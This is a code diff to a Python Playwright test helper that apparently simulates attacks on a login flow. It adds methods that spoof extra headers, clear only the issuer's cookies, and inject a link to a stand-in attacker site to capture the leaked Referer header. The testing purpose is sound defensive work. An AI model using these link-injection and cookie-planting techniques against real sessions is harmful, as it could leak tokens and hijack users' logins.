@@ -69,6 +69,10 @@ class Doings:
         finally:
             page.close()
 
+    def claims_to_come_through(self, headers: dict[str, str]) -> None:
+        """Send further headers with everything, as anybody can."""
+        self._context().set_extra_http_headers(headers)
+
     # -- cookies -------------------------------------------------------------------------------------------------
 
     def cookies(self) -> list[dict[str, Any]]:
@@ -79,6 +83,12 @@ class Doings:
     def drops_cookies(self) -> None:
         """Lose every cookie, of app and issuer."""
         self._context().clear_cookies()
+
+    def forgets_the_issuer(self) -> None:
+        """Lose the issuer's cookies only: at the app everything stays as it is."""
+        kept = self.cookies()
+        self.drops_cookies()
+        self.plants_cookies(kept)
 
     def plants_cookies(self, cookies: list[dict[str, Any]]) -> None:
         """Put cookies into the browser, as somebody with the machine in hand could."""
@@ -106,6 +116,18 @@ class Doings:
             return frame.locator("body").inner_text(timeout=2_000)
         except Error:
             return ""
+
+    def leaves_for_a_strangers_site(self) -> str:
+        """Click a link of the page in front to the attacker's site; returns the Referer that arrived there."""
+        self.tab.evaluate(
+            """address => {
+                const link = document.body.appendChild(document.createElement('a'));
+                link.id = 'go'; link.href = address; link.textContent = 'away';
+            }""",
+            f"https://{evil_site.EVIL}/elsewhere",
+        )
+        self._leaves_by_click()
+        return self.world.evil.visits[-1].headers.get("referer", "") if self.world.evil.visits else ""
 
     def _leaves_by_click(self) -> None:
         with suppress(PlaywrightTimeout), self.tab.expect_navigation(wait_until="domcontentloaded"):
